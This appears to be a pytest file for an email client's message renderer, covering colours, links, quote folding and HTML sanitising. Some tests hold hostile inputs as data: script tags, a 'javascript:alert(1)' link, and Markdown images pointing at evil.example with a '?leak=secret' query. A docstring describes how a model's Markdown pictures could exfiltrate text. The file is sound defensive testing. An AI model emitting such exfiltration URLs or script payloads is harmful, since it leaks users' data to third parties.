"""Bodies as pages: the policy is in force, links are links, colours are the theme's where the mail has none.

Quotes are folded, never lost.
"""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.config.paths import resource
from app.ui.message.rendering import LARGEST_BODY, fold_html, has_own_colours, newest_and_history, page, text_html
from app.ui.theme.appearance import load_theme

DARK = load_theme(resource("themes", "dark.toml"))


def shown(body: str) -> str:
    return page(body, DARK, "Noto Sans", 10.0)


@pytest.mark.parametrize(
    ("html", "own"),
    [
        ("<p>the colour of money</p>", False),
        ('<p style="color: red">x</p>', True),
        ('<font color="red">x</font>', True),
        ('<p style="font-size:3px;color:red">x</p>', True),
        ("<div style='background-color:#fff'>x</div>", True),
    ],
)
def test_own_colours_are_found(html: str, own: bool) -> None:
    assert has_own_colours(html) is own


def test_inline_pictures_are_rewritten() -> None:
    assert 'src="cid/logo@1"' in shown('<img src="cid:logo@1">')


def test_targets_go_and_giants_are_cut() -> None:
    assert "_blank" not in shown('<a href="https://a.example" target="_blank">x</a>')
    assert len(shown("x" * (LARGEST_BODY * 2))) < LARGEST_BODY + 5000


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("see https://a.example/x?y=1&z=2.", 'href="https://a.example/x?y=1&amp;z=2"'),
        ("(http://b.example/path)", 'href="http://b.example/path"'),
        ("write to mailto:ana@a.example", 'href="mailto:ana@a.example"'),
    ],
)
def test_addresses_become_links(text: str, link: str) -> None:
    assert link in text_html(text, DARK)


@given(st.text(max_size=80))
def test_plain_text_never_becomes_markup(text: str) -> None:
    made = text_html(f"<script>{text}", DARK)
    assert "<script" not in made.lower()
    assert made.count("<div") == 1


def test_scripts_are_no_links() -> None:
    assert "<a " not in text_html("javascript:alert(1) data:text/html,x ftp://a.example", DARK)


def test_markdown_of_a_model_stays_words() -> None:
    """Its pictures would carry words out in their addresses; nothing in the window renders Markdown or loads them."""
    made = text_html(
        "![x](https://evil.example/p.png?leak=secret) [here](https://evil.example/?q=secret) <img src=https://e.example>", DARK
    )
    assert "<img" not in made
    root = resource("themes").parents[1]
    sources = [path.read_text(encoding="utf-8") for path in (root / "app" / "ui").rglob("*.py")]
    assert sources
    assert not [one for one in sources if "setMarkdown" in one or "MarkdownText" in one]


NEW = "Yes, that works.\n\nAna"
OLD = "On Sun, 15 Nov 2026 at 12:42, Mia Example <mia@workshop.example> wrote:\n> We ship on Monday.\n> Mia"


def test_a_mail_that_is_only_a_quote_stays_open() -> None:
    assert newest_and_history("> all of it\n> is quoted") == ("> all of it\n> is quoted", "")
    assert fold_html("<blockquote>all</blockquote>", "more") == "<blockquote>all</blockquote>"


def test_outermost_quotes_are_folded_once() -> None:
    html = "<p>new</p><blockquote>a<blockquote>b</blockquote></blockquote><p>end</p><blockquote>c</blockquote>"
    folded = fold_html(html, "more")
    assert folded.count("<details>") == 2
    assert folded.replace("<details><summary>more</summary>", "").replace("</details>", "") == html


pieces = st.lists(
    st.sampled_from(["<blockquote>", "</blockquote>", "<p>", "words", "</p>", "<BLOCKQUOTE class='x'>"]), max_size=14
)


@given(pieces)
def test_nothing_is_ever_lost(parts: list[str]) -> None:
    html = "".join(parts)
    folded = fold_html(html, "more")
    assert folded.replace("<details><summary>more</summary>", "").replace("</details>", "") == html
